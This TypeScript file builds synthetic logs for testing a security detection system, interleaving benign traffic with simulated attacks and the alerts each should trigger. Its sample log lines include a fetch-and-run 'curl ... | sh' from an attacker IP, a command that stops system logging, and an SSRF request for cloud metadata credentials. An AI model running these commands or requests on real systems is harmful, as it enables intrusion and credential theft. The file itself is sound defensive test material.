import type { SubscriptionPayload } from '../decode/cloudwatch';
import { awsTimeline, STATUS_WEB_THIEF } from './aws';
import { Random } from './random';

/**
 * Demo data: realistic mixed traffic for the systems the stack protects, in the shapes those
 * systems really log (see log-samples.md). Attack timelines are interleaved with benign ones
 * that must stay quiet: busy normal users, a nightly batch job, a developer on a new laptop.
 */
/**
 * A real browser's user agent for the benign web traffic. A bare `Mozilla/5.0` is what exploit
 * frameworks send (SigmaHQ's "Exploit Framework User Agent" lists it), so benign visitors must not.
 */
const BROWSER_AGENT = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';

export const LOG_GROUPS = {
  identity: '/sentinel-demo/identity/audit',
  statusPage: '/sentinel-demo/status-page/laravel',
  web: '/sentinel-demo/web/nginx',
  bastion: '/sentinel-demo/bastion/sshd',
  deploy: '/sentinel-demo/deploy/paramiko',
  chat: '/sentinel-demo/chat/ircd',
  api: '/sentinel-demo/api/status-api',
} as const;

/** What the demo must produce: each attack behaviour, by rule and entity. */
export interface ExpectedDetection {
  ruleId: string;
  entity: string;
}

export interface DemoData {
  payloads: SubscriptionPayload[];
  expected: ExpectedDetection[];
  expectedIncidents: ExpectedDetection[];
  /** Entities of the benign timelines: no alert may name them. */
  benignEntities: string[];
  eventCount: number;
}

interface Line {
  group: string;
  stream: string;
  t: number;
  message: string;
}

const DAY = 86_400_000;
const MIN = 60_000;
export const DEMO_BASE = Date.parse('2025-03-03T00:00:00Z'); // a Monday

const iso = (t: number) => new Date(t).toISOString();
/** A time as a BSD syslog header writes it (`Mar  3 03:17:01`, UTC). */
export const syslogTime = (t: number) => {
  const d = new Date(t);
  const mon = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'][d.getUTCMonth()] ?? 'Jan';
  const pad = (n: number) => String(n).padStart(2, '0');
  return `${mon} ${String(d.getUTCDate()).padStart(2, ' ')} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
};
const laravelTime = (t: number) => iso(t).slice(0, 19).replace('T', ' ');
const pythonTime = (t: number) => `${iso(t).slice(0, 19).replace('T', ' ')},${iso(t).slice(20, 23)}`;
const clfTime = (t: number) => {
  const d = new Date(t);
  const mon = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'][d.getUTCMonth()] ?? 'Jan';
  return `${String(d.getUTCDate()).padStart(2, '0')}/${mon}/${d.getUTCFullYear()}:${iso(t).slice(11, 19)} +0000`;
};

class Timeline {
  readonly lines: Line[] = [];
  constructor(
    readonly rnd: Random,
    /** Midnight UTC of the attack day; benign history runs the week before. */
    readonly base: number,
  ) {}
  add(group: string, stream: string, t: number, message: string): void {
    this.lines.push({ group, stream, t: Math.round(t), message });
  }
  identity(t: number, body: Record<string, unknown>): void {
    this.add(LOG_GROUPS.identity, 'identity-1', t, JSON.stringify({ timestamp: iso(t), category: 'security_audit', ...body }));
  }
  login(t: number, user: string, ip: string, country: string, opts: { mfa?: boolean; result?: string; method?: string } = {}): void {
    this.identity(t, {
      level: opts.result === 'failure' ? 'WARN' : 'INFO',
      event_type: 'user_login',
      correlation_id: `c-${this.rnd.int(1000, 9999)}`,
      authentication: {
        user_id: user,
        method: opts.method ?? 'saml',
        source_ip: ip,
        mfa_used: opts.mfa ?? true,
        result: opts.result ?? 'success',
      },
      geo: { country },
    });
  }
  projectAccess(t: number, user: string, project: string, sensitivity: string, result = 'granted'): void {
    this.identity(t, {
      level: 'INFO',
      event_type: 'project_access',
      authorization: { user_id: user, resource: project, resource_type: 'project', result },
      context: { project_sensitivity: sensitivity },
    });
  }
  nginx(t: number, ip: string, method: string, path: string, status: number, agent = BROWSER_AGENT): void {
    this.add(
      LOG_GROUPS.web,
      'web-1',
      t,
      `${ip} - - [${clfTime(t)}] "${method} ${path} HTTP/1.1" ${status} ${this.rnd.int(100, 9000)} "-" "${agent}"`,
    );
  }
  sshd(t: number, text: string): void {
    this.add(LOG_GROUPS.bastion, 'bastion-1', t, `${syslogTime(t)} bastion-1 ${text}`);
  }
  chat(t: number, body: Record<string, unknown>): void {
    this.add(LOG_GROUPS.chat, 'ircd-1', t, JSON.stringify({ ts: iso(t).replace('.000', ''), ...body }));
  }
}

const NORMAL_USERS = ['alice', 'bob', 'carol', 'dmitri', 'erin', 'farah', 'gus', 'hana'];
const NORMAL_PROJECTS = ['WEB', 'MOBILE', 'OPS', 'DOCS'];

function benignIdentity(tl: Timeline): void {
  const r = tl.rnd;
  // A week of ordinary workdays for everyone, including r.ortega and the admin.
  for (let day = -7; day <= 0; day++) {
    const dayStart = tl.base + day * DAY;
    const weekday = new Date(dayStart).getUTCDay();
    if (weekday === 0 || weekday === 6) continue;
    for (const user of [...NORMAL_USERS, 'r.ortega', 'j.chen']) {
      const logins = r.int(1, 3);
      for (let i = 0; i < logins; i++) {
        const t = dayStart + r.int(8 * 60, 17 * 60) * MIN + r.int(0, 59_000);
        // Busy but normal: now and then one mistyped password just before the login.
        if (r.chance(0.15)) tl.login(t - 20_000, user, `198.51.100.${r.int(10, 60)}`, 'US', { result: 'failure' });
        tl.login(t, user, `198.51.100.${r.int(10, 60)}`, 'US');
        tl.projectAccess(t + 60_000, user, r.pick(NORMAL_PROJECTS), 'low');
      }
    }
    // The nightly batch job: off-hours, no MFA (API key), bulk export — every night, and benign.
    const batch = dayStart + 2 * 60 * MIN;
    tl.login(batch, 'svc-batch', '10.0.2.15', 'US', { mfa: false, method: 'api_key' });
    tl.identity(batch + 5 * MIN, {
      level: 'INFO',
      event_type: 'bulk_export',
      user_activity: {
        user_id: 'svc-batch',
        action: 'export_issues',
        project: 'REPORTS',
        requested_issue_count: 52_000,
        export_blocked: false,
      },
    });
  }
  // A developer on a new laptop: new IP and user agent, usual country, MFA, office hours.
  tl.login(tl.base + 10 * 60 * MIN, 'dmitri', '198.51.100.201', 'US');
  tl.projectAccess(tl.base + 10 * 60 * MIN + 30_000, 'dmitri', 'WEB', 'low');
}

function insiderThreat(tl: Timeline, expect: ExpectedDetection[]): void {
  const t0 = tl.base + 3 * 60 * MIN + 12 * MIN + 40_000; // 03:12:40 UTC
  tl.login(t0, 'r.ortega', '198.51.100.23', 'BR', { mfa: false });
  tl.projectAccess(t0 + 7 * MIN + 25_000, 'r.ortega', 'PAYROLL', 'high');
  tl.identity(t0 + 19 * MIN + 11_000, {
    level: 'ERROR',
    event_type: 'bulk_export',
    user_activity: {
      user_id: 'r.ortega',
      action: 'export_issues',
      project: 'PAYROLL',
      requested_issue_count: 1900,
      export_blocked: true,
      session: 'session=9f8e7d6c5b4a; token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJyLm9ydGVnYSJ9.c2lnbmF0dXJl',
    },
  });
  for (const ruleId of [
    'auth.off_hours_login',
    'auth.new_country_login',
    'auth.login_without_mfa',
    'authz.sensitive_first_access',
    'data.bulk_export',
  ]) {
    expect.push({ ruleId, entity: 'r.ortega' });
  }
}

function accountTakeover(tl: Timeline, expect: ExpectedDetection[]): void {
  const t0 = tl.base + 13 * 60 * MIN;
  for (let i = 0; i < 12; i++) tl.login(t0 + i * 12_000, 'j.chen', '198.51.100.77', 'US', { result: 'failure', method: 'password' });
  tl.login(t0 + 3 * MIN, 'j.chen', '198.51.100.77', 'US', { method: 'password' });
  tl.identity(t0 + 9 * MIN, {
    level: 'WARN',
    event_type: 'role_grant',
    admin: { user_id: 'j.chen', source_ip: '198.51.100.77', role: 'org-admin', target: 'j.chen' },
  });
  expect.push(
    { ruleId: 'auth.brute_force_user', entity: 'j.chen' },
    { ruleId: 'auth.success_after_failures', entity: 'j.chen' },
    { ruleId: 'admin.privileged_action', entity: 'j.chen' },
  );
}

function passwordSpray(tl: Timeline, expect: ExpectedDetection[]): void {
  const t0 = tl.base + 12 * 60 * MIN;
  const targets = [
    ...NORMAL_USERS,
    'admin',
    'root',
    'test',
    'guest',
    'support',
    'sales',
    'hr',
    'finance',
    'jenkins',
    'backup',
    'web',
    'mail',
    'oracle',
    'postgres',
    'ubuntu',
    'ec2-user',
    'deploy',
  ];
  targets.forEach((user, i) => {
    tl.login(t0 + i * 9_000, user, '192.0.2.66', 'NL', { result: 'failure', method: 'password' });
  });
  expect.push({ ruleId: 'auth.password_spray', entity: '192.0.2.66' }, { ruleId: 'auth.brute_force_source', entity: '192.0.2.66' });
}

function accessDenied(tl: Timeline, expect: ExpectedDetection[]): void {
  const t0 = tl.base + 14 * 60 * MIN;
  ['HR', 'FINANCE', 'LEGAL', 'PAYROLL', 'M&A'].forEach((p, i) => {
    for (let k = 0; k < 3; k++) tl.projectAccess(t0 + (i * 3 + k) * 15_000, 'mallory', p, 'high', 'denied');
  });
  expect.push({ ruleId: 'authz.access_denied_burst', entity: 'mallory' });
}

function logTampering(tl: Timeline, expect: ExpectedDetection[]): void {
  tl.identity(tl.base + 15 * 60 * MIN, {
    level: 'WARN',
    event_type: 'audit_log_cleared',
    admin: { user_id: 'ops-admin', source_ip: '10.0.3.9' },
    host: { name: 'issues-1' },
  });
  expect.push({ ruleId: 'integrity.log_tampering', entity: 'ops-admin' });
}

function statusPageAdmin(tl: Timeline, expect: ExpectedDetection[]): void {
  const r = tl.rnd;
  // History: the admin logs in from the office most workdays.
  for (let day = -7; day < 0; day++) {
    const weekday = new Date(tl.base + day * DAY).getUTCDay();
    if (weekday === 0 || weekday === 6) continue;
    const t = tl.base + day * DAY + 9 * 60 * MIN + r.int(0, 3_600_000);
    tl.add(
      LOG_GROUPS.statusPage,
      'status-1',
      t,
      `[${laravelTime(t)}] production.INFO: Admin login successful {"username":"admin","ip":"10.0.0.5","url":"/dashboard/login"}`,
    );
  }
  const t0 = tl.base + 11 * 60 * MIN;
  for (let i = 0; i < 8; i++) {
    const t = t0 + i * 20_000;
    tl.add(
      LOG_GROUPS.statusPage,
      'status-1',
      t,
      `[${laravelTime(t)}] production.WARNING: Failed login attempt {"username":"admin","ip":"192.0.2.10","url":"/dashboard/login","password":"Winter2025!"}`,
    );
  }
  const ok = t0 + 4 * MIN;
  tl.add(
    LOG_GROUPS.statusPage,
    'status-1',
    ok,
    `[${laravelTime(ok)}] production.INFO: Admin login successful {"username":"admin","ip":"192.0.2.10","url":"/dashboard/login"}`,
  );
  const err = t0 + 30 * MIN;
  tl.add(
    LOG_GROUPS.statusPage,
    'status-1',
    err,
    `[${laravelTime(err)}] production.ERROR: SQLSTATE[HY000] [2002] Connection refused {"exception":"[object] (PDOException(code: 2002) at /var/www/vendor/laravel/framework/src/Illuminate/Database/Connectors/Connector.php:70)"}`,
  );
  expect.push(
    { ruleId: 'auth.admin_login_failures', entity: '192.0.2.10' },
    { ruleId: 'auth.admin_new_ip', entity: 'admin' },
    { ruleId: 'auth.success_after_failures', entity: 'admin' },
  );
}

function web(tl: Timeline, expect: ExpectedDetection[]): void {
  const r = tl.rnd;
  const start = tl.base + 8 * 60 * MIN;
  const end = tl.base + 10 * 60 * MIN;
  const clients = Array.from({ length: 40 }, (_, i) => `198.51.100.${100 + i}`);
  const paths = ['/', '/status', '/api/v1/incidents', '/api/v1/search?q=latency', '/static/app.js', '/api/v1/components'];
  for (let t = start; t < end; t += r.int(1000, 3000)) {
    const status = r.chance(0.02) ? 404 : r.chance(0.01) ? 401 : 200;
    tl.nginx(t, r.pick(clients), 'GET', r.pick(paths), status);
  }
  // Forced browsing / unauthorized access attempts.
  const probe = tl.base + 9 * 60 * MIN;
  const probes = ['/admin', '/.env', '/wp-admin/', '/api/v1/admin/users', '/.git/config', '/server-status'];
  for (let i = 0; i < 45; i++)
    tl.nginx(probe + i * 3_000, '203.0.113.80', 'GET', probes[i % probes.length] ?? '/admin', i % 3 === 0 ? 401 : 403, 'sqlmap/1.7');
  // Botnet hammering the search endpoint: an endpoint rate spike, no single client flooding.
  const spike = tl.base + 9 * 60 * MIN + 30 * MIN;
  for (let i = 0; i < 420; i++)
    tl.nginx(spike + i * 600, `203.0.113.${100 + (i % 50)}`, 'GET', '/api/v1/search?q=a', 200, 'Go-http-client/1.1');
  // One client flooding the front page, then the origin starts failing.
  const flood = tl.base + 9 * 60 * MIN + 40 * MIN;
  for (let i = 0; i < 360; i++) tl.nginx(flood + i * 140, '203.0.113.99', 'GET', '/', 200, 'curl/8.4.0');
  const fail = tl.base + 9 * 60 * MIN + 48 * MIN;
  for (let i = 0; i < 25; i++) tl.nginx(fail + i * 8_000, r.pick(clients), 'GET', r.pick(paths), 502);
  // A server-side request forgery: the link-preview endpoint fetches whatever URL it is given,
  // here the instance metadata service's credentials for the server's role (CloudTrail shows the
  // key used from this address at 10:05).
  const forgery = tl.base + 9 * 60 * MIN + 52 * MIN;
  const metadata = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';
  // (Written whole, sizes included: drawing them from the random source would change the rest of the demo's traffic.)
  for (const [t, url, bytes] of [
    [forgery, metadata, 11],
    [forgery + 9_000, `${metadata}status-web`, 1_312],
  ] as const)
    tl.add(
      LOG_GROUPS.web,
      'web-1',
      t,
      `${STATUS_WEB_THIEF} - - [${clfTime(t)}] "GET /api/v1/preview?url=${encodeURIComponent(url)} HTTP/1.1" 200 ${bytes} "-" "curl/8.4.0"`,
    );
  expect.push(
    { ruleId: 'web.forbidden_burst', entity: '203.0.113.80' },
    { ruleId: 'api.request_rate_spike', entity: '/api/v1/search' },
    { ruleId: 'web.request_flood', entity: '203.0.113.99' },
    { ruleId: 'web.repeated_5xx', entity: 'web' },
    { ruleId: 'web.cloud_metadata_request', entity: STATUS_WEB_THIEF },
  );
}

function bastion(tl: Timeline, expect: ExpectedDetection[]): void {
  const r = tl.rnd;
  // The host's hourly cron run, logged while its syslog daemon runs: until the intruder stops it
  // (03:44), and again from when the on-call starts it (09:05).
  const cronRun = (h: number) =>
    tl.sshd(
      tl.base + h * 60 * MIN + 17 * MIN + 1000,
      `CRON[${r.int(10000, 30000)}]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)`,
    );
  for (let h = 0; h < 4; h++) cronRun(h);
  for (let h = 9; h < 24; h++) cronRun(h);
  tl.sshd(
    tl.base + 9 * 60 * MIN + 5 * MIN,
    'rsyslogd: [origin software="rsyslogd" swVersion="8.2302.0" x-pid="811" x-info="https://www.rsyslog.com"] start',
  );
  // Benign: deploys from the CI runner with a key, and routine sudo.
  for (let h = 10; h < 18; h += 2) {
    const t = tl.base + h * 60 * MIN + r.int(0, 600_000);
    tl.sshd(
      t,
      `sshd[${r.int(1000, 9999)}]: Accepted publickey for deploy from 10.0.1.5 port ${r.int(30000, 60000)} ssh2: ED25519 SHA256:Zx8pLr2Qm`,
    );
    tl.sshd(t + 30_000, `sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart status-page`);
  }
  // Attack: password guessing (invalid users, root), a hit, then a command.
  const t0 = tl.base + 3 * 60 * MIN + 40 * MIN;
  const users = ['oracle', 'admin', 'test', 'root', 'ubuntu', 'root', 'postgres', 'deploy', 'git', 'root', 'jenkins', 'deploy'];
  users.forEach((u, i) => {
    const invalid = !['root', 'deploy'].includes(u);
    tl.sshd(
      t0 + i * 9_000,
      `sshd[2231]: Failed password for ${invalid ? 'invalid user ' : ''}${u} from 203.0.113.50 port ${52144 + i} ssh2`,
    );
  });
  tl.sshd(t0 + 2 * MIN, 'sshd[2290]: Accepted password for deploy from 203.0.113.50 port 52290 ssh2');
  tl.sshd(
    t0 + 3 * MIN,
    'sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash -c curl -s http://203.0.113.50/x.sh | sh',
  );
  // The script stops the host's logging: nothing more from bastion-1 until 09:05.
  tl.sshd(t0 + 4 * MIN, 'sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl stop rsyslog');
  tl.sshd(
    t0 + 4 * MIN + 200,
    'rsyslogd: [origin software="rsyslogd" swVersion="8.2302.0" x-pid="811" x-info="https://www.rsyslog.com"] exiting on signal 15.',
  );
  expect.push(
    { ruleId: 'integrity.host_logs_stopped', entity: 'bastion-1' },
    { ruleId: 'ssh.auth_failures', entity: '203.0.113.50' },
    { ruleId: 'ssh.root_login_attempt', entity: '203.0.113.50' },
    { ruleId: 'ssh.success_after_failures', entity: '203.0.113.50' },
    { ruleId: 'ssh.command_after_suspicious_login', entity: 'bastion-1' },
    { ruleId: 'auth.off_hours_login', entity: 'deploy' },
  );
}

function deployTool(tl: Timeline, expect: ExpectedDetection[]): void {
  const t0 = tl.base + 10 * 60 * MIN + 30 * MIN;
  const py = (t: number, level: string, logger: string, msg: string) =>
    tl.add(LOG_GROUPS.deploy, 'deploy-runner', t, `${pythonTime(t)} ${level} ${logger} ${msg}`);
  py(t0, 'INFO', 'paramiko.transport', 'Connected (version 2.0, client OpenSSH_9.6)');
  py(t0 + 400, 'INFO', 'paramiko.transport', 'Authentication (publickey) successful!');
  py(t0 + 60_000, 'INFO', 'paramiko.transport', 'Connected (version 2.0, client OpenSSH_9.6)');
  py(t0 + 61_554, 'WARNING', 'paramiko.client', 'Unknown ssh-ed25519 host key for 10.0.4.17: 3f1a9bc2d4e5f60718293a4b5c6d7e8f');
  expect.push({ ruleId: 'ssh.host_key_verification_failed', entity: '10.0.4.17' });
}

function chat(tl: Timeline, expect: ExpectedDetection[]): void {
  const r = tl.rnd;
  const start = tl.base + 4 * 60 * MIN;
  const peers = Array.from({ length: 30 }, (_, i) => `198.51.100.${150 + i}`);
  for (let t = start; t < start + 70 * MIN; t += r.int(10_000, 30_000)) {
    tl.chat(t, { lvl: 'info', component: 'net', event: 'connection_opened', peer_ip: r.pick(peers), active_connections: r.int(900, 1100) });
  }
  for (let t = start + 2 * MIN; t < start + 60 * MIN; t += r.int(240_000, 420_000)) {
    tl.chat(t, { lvl: 'error', component: 'net', event: 'accept_failed', error: 'EMFILE', peer_ip: r.pick(peers) });
  }
  // Oversized/malformed messages from one peer.
  for (let i = 0; i < 6; i++)
    tl.chat(start + 30 * MIN + i * 20_000, {
      lvl: 'warn',
      component: 'proto',
      event: 'message_rejected',
      reason: 'oversized',
      peer_ip: '203.0.113.7',
      bytes: 70_000 + i,
    });
  // Flood at 05:00, and the daemon starts failing.
  const flood = start + 60 * MIN;
  for (let i = 0; i < 220; i++)
    tl.chat(flood + i * 250, {
      lvl: 'warn',
      component: 'net',
      event: 'connection_rejected',
      peer_ip: '203.0.113.77',
      reason: 'rate_limited',
      active_connections: 4031 + i,
    });
  for (let i = 0; i < 70; i++)
    tl.chat(flood + 20_000 + i * 3_000, {
      lvl: 'error',
      component: 'net',
      event: 'accept_failed',
      error: 'EMFILE',
      peer_ip: r.pick(peers),
    });
  // Input the stack must survive: a truncated JSON line and a binary line.
  tl.add(LOG_GROUPS.chat, 'ircd-1', flood + 1000, '{"ts":"2025-03-03T05:00:01Z","lvl":"warn","component":"net","event":"connection_rej');
  tl.add(LOG_GROUPS.chat, 'ircd-1', flood + 2000, '\u0000\u0001\u0002PK\u0003\u0004 binary frame');
  expect.push(
    { ruleId: 'net.malformed_message', entity: '203.0.113.7' },
    { ruleId: 'net.connection_flood', entity: '203.0.113.77' },
    { ruleId: 'errors.level_spike', entity: 'chat-gateway' },
  );
}

function statusApi(tl: Timeline, expect: ExpectedDetection[]): void {
  const r = tl.rnd;
  const start = tl.base + 6 * 60 * MIN;
  for (let t = start; t < start + 60 * MIN; t += r.int(5_000, 20_000)) {
    tl.add(
      LOG_GROUPS.api,
      'api-1',
      t,
      JSON.stringify({ level: 30, time: t, msg: 'request completed', path: '/api/v1/incidents', status: 200, responseTime: r.int(5, 90) }),
    );
  }
  for (let t = start + 5 * MIN; t < start + 60 * MIN; t += 10 * MIN) {
    tl.add(
      LOG_GROUPS.api,
      'api-1',
      t,
      JSON.stringify({
        '@timestamp': iso(t),
        'log.level': 'error',
        message: 'upstream timeout',
        'service.name': 'status-api',
        'error.type': 'TimeoutError',
        'trace.id': `4bf9${r.int(1000, 9999)}`,
      }),
    );
  }
  const t = start + 61 * MIN;
  tl.add(
    LOG_GROUPS.api,
    'api-1',
    t,
    JSON.stringify({
      '@timestamp': iso(t),
      'log.level': 'error',
      message: 'deadlock detected while updating component status',
      'service.name': 'status-api',
      'error.type': 'DatabaseDeadlockError',
      'trace.id': '77aa01',
      authorization: 'Bearer abcdef0123456789abcdef',
    }),
  );
  expect.push({ ruleId: 'errors.new_error_type', entity: 'status-api' });
}

/** Builds the demo: lines from every timeline, cut into CloudWatch Logs payloads per stream. */
export interface DemoOptions {
  /** Midnight UTC of the attack day (a Monday keeps the weekday logic as designed). */
  base?: number;
  /** Payload cut: at most this many events, spanning at most this long, per log stream. */
  maxEventsPerPayload?: number;
  payloadSpanMs?: number;
  /** Include the AWS account compromise, port scan and timeouts (the benign AWS traffic is always there). */
  awsAttack?: boolean;
}

export function generateDemo(seed = 20250303, options: DemoOptions = {}): DemoData {
  const tl = new Timeline(new Random(seed), options.base ?? DEMO_BASE);
  const expected: ExpectedDetection[] = [];
  benignIdentity(tl);
  insiderThreat(tl, expected);
  accountTakeover(tl, expected);
  passwordSpray(tl, expected);
  accessDenied(tl, expected);
  logTampering(tl, expected);
  statusPageAdmin(tl, expected);
  web(tl, expected);
  bastion(tl, expected);
  deployTool(tl, expected);
  chat(tl, expected);
  statusApi(tl, expected);
  const aws = awsTimeline(tl.rnd, tl.base, { attack: options.awsAttack ?? true });
  tl.lines.push(...aws.lines);
  expected.push(...aws.expected);
  const payloads = toPayloads(tl.lines, options.maxEventsPerPayload ?? 200, options.payloadSpanMs ?? 5_000);
  return {
    payloads,
    expected,
    expectedIncidents: [
      { ruleId: 'corr.insider_threat', entity: 'r.ortega' },
      { ruleId: 'corr.account_takeover', entity: 'j.chen' },
      { ruleId: 'corr.dos_attack', entity: 'chat-gateway' },
      { ruleId: 'corr.dos_attack', entity: 'web' },
      ...aws.incidents,
    ],
    benignEntities: [
      ...NORMAL_USERS,
      'svc-batch',
      '10.0.1.5',
      '10.0.2.15',
      '10.0.0.5',
      '198.51.100.201',
      'ci-deployer/gh-actions',
      '10.0.1.10',
      '10.0.0.12',
      'dana@example.com',
      '10.0.4.7',
      '10.0.5.12',
    ],
    eventCount: tl.lines.length,
  };
}

/**
 * Payloads as CloudWatch Logs would deliver them: per log stream, a batch for every few
 * seconds of traffic (by default at most 200 events), in time order across all streams.
 */
function toPayloads(lines: Line[], maxEvents: number, spanMs: number): SubscriptionPayload[] {
  const sorted = [...lines].sort((a, b) => a.t - b.t);
  const open = new Map<string, { payload: SubscriptionPayload; started: number }>();
  const out: SubscriptionPayload[] = [];
  let seq = 0;
  for (const line of sorted) {
    const key = `${line.group}|${line.stream}`;
    let current = open.get(key);
    if (current && (line.t - current.started > spanMs || current.payload.logEvents.length >= maxEvents)) {
      out.push(current.payload);
      current = undefined;
    }
    if (!current) {
      current = {
        started: line.t,
        payload: {
          owner: '123456789012',
          logGroup: line.group,
          logStream: line.stream,
          subscriptionFilters: ['sentinel-detector'],
          messageType: 'DATA_MESSAGE',
          logEvents: [],
        },
      };
      open.set(key, current);
    }
    seq++;
    current.payload.logEvents.push({
      id: `${String(line.t).padStart(14, '0')}${String(seq).padStart(8, '0')}`,
      timestamp: line.t,
      message: line.message,
    });
  }
  for (const c of open.values()) out.push(c.payload);
  return out.sort((a, b) => (a.logEvents[0]?.timestamp ?? 0) - (b.logEvents[0]?.timestamp ?? 0));
}
